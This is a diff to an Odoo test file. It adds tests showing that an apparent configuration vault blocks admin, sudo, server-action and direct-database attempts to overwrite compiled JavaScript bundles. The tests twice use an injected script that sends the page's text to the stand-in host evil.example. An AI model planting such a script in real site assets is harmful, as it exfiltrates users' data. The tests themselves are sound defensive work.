@@ -8,13 +8,15 @@ import base64
 
 from psycopg2 import errors as pg_errors
 
+from odoo import SUPERUSER_ID
 from odoo.exceptions import AccessError, UserError
 from odoo.tests import tagged
 from odoo.tools import mute_logger
 
-from ..models import vault as vault_module
-from ..models import vault_crypto, vault_gate
-from ..models.vault_verify import VaultReview
+from ..models.vault import vault_gate
+from ..models.vault import vp_vault as vault_module
+from ..models.vault.vp_vault import VaultReview
+from ..tools import vault_crypto
 from .common import MELDER, SECRET, VAULT_PASS, CaseCommon
 
 
@@ -307,6 +309,93 @@ class TestAdminConfigurationAttacks(CaseCommon):
         with self.assertRaises(VaultReview) as review:
             self.counsellor_api().unlock(VAULT_PASS)
         self.assertIn("web.layout", " ".join(a["text"] for a in review.exception.alerts))
+
+    # ------------------------------------------------------------------ compiled bundles
+
+    def built_bundle(self):
+        """A compiled JavaScript bundle, built by Odoo from the files (a small one)."""
+        bundle = self.env["ir.qweb"]._get_asset_bundle(
+            "web.assets_frontend_minimal", css=False, js=True
+        )
+        return bundle.js()
+
+    def test_compiled_bundles_are_written_only_by_odoos_builder(self):
+        bundle = self.built_bundle()
+        self.assertTrue(bundle.url.startswith("/web/assets/"))
+        other = self.admin_env["ir.attachment"].create({"name": "notes.js", "raw": b"1;"})
+        script = b"fetch('https://evil.example/?'+document.body.innerText)"
+        attempts = {
+            "write the bundle": lambda: bundle.with_user(self.admin).write({"raw": script}),
+            "write it with sudo": lambda: (
+                bundle.with_user(self.admin).sudo().write({"raw": script})
+            ),
+            "a second bundle at its address": lambda: (
+                self.admin_env["ir.attachment"]
+                .with_user(SUPERUSER_ID)
+                .create(
+                    {
+                        "name": bundle.name,
+                        "url": bundle.url,
+                        "raw": script,
+                        "public": True,
+                        "res_model": "ir.ui.view",
+                    }
+                )
+            ),
+            "move another file to its address": lambda: other.write({"url": bundle.url}),
+            "delete it": lambda: bundle.with_user(self.admin).unlink(),
+            "a server action": lambda: (
+                self.admin_env["ir.actions.server"]
+                .create(
+                    {
+                        "name": "Tune the web client",
+                        "model_id": self.env["ir.model"]._get("ir.attachment").id,
+                        "state": "code",
+                        "code": "env['ir.attachment'].browse(%d).sudo().write({'raw': b'x'})"
+                        % bundle.id,
+                    }
+                )
+                .run()
+            ),
+        }
+        for name, attempt in attempts.items():
+            with self.subTest(attempt=name), self.assertRaises(UserError):
+                attempt()
+        self.assertNotIn(b"evil.example", bundle.raw)
+        # Odoo itself still rebuilds its bundles from the files
+        self.env["ir.attachment"].regenerate_assets_bundles()
+        self.assertFalse(bundle.exists())
+        self.assertTrue(self.built_bundle().url.startswith("/web/assets/"))
+
+    def test_bundles_odoo_builds_are_no_change(self):
+        self.counsellor_api().lock()
+        self.env["ir.attachment"].regenerate_assets_bundles()
+        self.built_bundle()
+        self.assertFalse(self.counsellor_api().unlock(VAULT_PASS))  # nothing to review
+
+    def test_dba_change_of_a_compiled_bundle_is_shown_and_locks(self):
+        api = self.counsellor_api()
+        # Odoo building a bundle while the vault is open is no configuration change;
+        # from then on the vault knows the bundle
+        bundle = self.built_bundle()
+        self.env.flush_all()
+        vault_gate.forget_checks(self.env.cr)
+        private = api._get_private_key()
+        self.assertIsNotNone(private)
+        vault = api._vault_of()
+        self.assertTrue(vault._config_unchanged(private))
+        self.env.cr.execute(
+            "UPDATE ir_attachment SET store_fname = NULL, db_datas = %s WHERE id = %s",
+            (b"fetch('https://evil.example/?'+document.body.innerText)", bundle.id),
+        )
+        self.env.invalidate_all()
+        # what the pulse of the next request runs (this test is one transaction, in
+        # which the row versions of a row written twice do not move)
+        self.assertFalse(vault._config_unchanged(private))
+        api.lock()
+        with self.assertRaises(VaultReview) as review:
+            api.unlock(VAULT_PASS)
+        self.assertIn(bundle.url, " ".join(a["text"] for a in review.exception.alerts))
 
     def test_installing_a_module_is_shown_at_unlock(self):
         self.counsellor_api().lock()
